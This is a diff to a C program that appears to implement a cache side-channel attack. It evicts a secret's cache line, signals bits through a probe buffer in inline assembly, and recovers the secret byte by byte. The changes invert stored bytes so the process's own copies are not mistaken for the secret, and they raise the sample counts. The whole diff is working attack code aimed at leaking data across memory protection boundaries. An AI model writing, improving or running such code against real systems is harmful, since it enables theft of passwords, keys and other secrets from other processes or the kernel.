@@ -25,17 +25,20 @@ enum { LINE_BYTES = 64, PAGE_BYTES = 4096, KNOWN_BEFORE = 7, MOST_FOUND = 64 };
 static const uint8_t *probe;
 static uint8_t elsewhere[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(64), unused));
 
-/* What has been found, behind the mark. */
+/*
+ * What has been found, behind the mark, and known below: all inverted. Else this process's own copies, which
+ * pass the buffers with its registers and the lines around, would be taken for the secret.
+ */
 static uint8_t found[KNOWN_BEFORE + MOST_FOUND];
 
 /* Of a sample: where in a page its loads are, and the bytes before the wanted one. */
 static int place;
 static uint64_t known;
 
-/* The bytes before the secret's byte at an index, the first of them lowest. */
+/* The bytes before the secret's byte at an index, the first of them lowest; one of zero behind them. */
 static inline uint64_t known_before(int index)
 {
-	uint64_t bytes = 0;
+	uint64_t bytes = ~0ULL;
 
 	memcpy(&bytes, found + index, KNOWN_BEFORE);
 	return bytes;
@@ -55,15 +58,11 @@ static inline int place_of_load(int index)
 
 /*
  * Prepares that the secret's line comes in anew when it is used next: evicts it. Before that it is
- * used a few times more, so that what else its user needs is in the cache, and does not come in
- * after it.
+ * used once more, so that what else its user needs is in the cache, and does not come in after it.
  */
 static inline void prepare_use(int index)
 {
-	enum { USES = 3 };
-
-	for (int i = 0; i < USES; i++)
-		use_secret(index);
+	use_secret(index);
 	evict(options.address + index, first_level_pages);
 }
 
@@ -72,6 +71,7 @@ static inline void prepare_use(int index)
  * otherwise a zero by %[elsewhere]. Uses %rax, %rcx and %rdx.
  */
 #define SEND_IF_KNOWN                           \
+	"not %%rax\n\t"                         \
 	"xor %[known], %%rax\n\t"               \
 	"mov %%rax, %%rcx\n\t"                  \
 	"shl $8, %%rcx\n\t"                     \
@@ -120,19 +120,20 @@ static inline void aim(int index)
 
 /*
  * Recovers the secret's bytes in order, as each is needed for those behind it. What is behind one of
- * which nothing was seen cannot be told.
+ * which nothing was seen cannot be told. Where the first one came out the others will, so they get
+ * more time: a line is seldom left where many come in behind it.
  */
 static inline void recover_in_order(int (*sample)(int index))
 {
 	if (options.bytes > MOST_FOUND)
 		errx(2, "expected --bytes up to %d", MOST_FOUND);
-	memset(found, MARK, KNOWN_BEFORE);
+	memset(found, ~MARK, KNOWN_BEFORE);
 	for (int i = 0; i < options.bytes; i++) {
-		int value = recover_byte(i, sample, (struct patience){ .samples = 200, .lead = 2 }, 0);
+		int value = recover_byte(i, sample, (struct patience){ .samples = i ? 1200 : 300, .lead = 2 }, 0);
 
 		if (value == NOTHING)
 			break;
-		found[KNOWN_BEFORE + i] = value;
+		found[KNOWN_BEFORE + i] = ~value;
 	}
 	printf("done\n");
 }
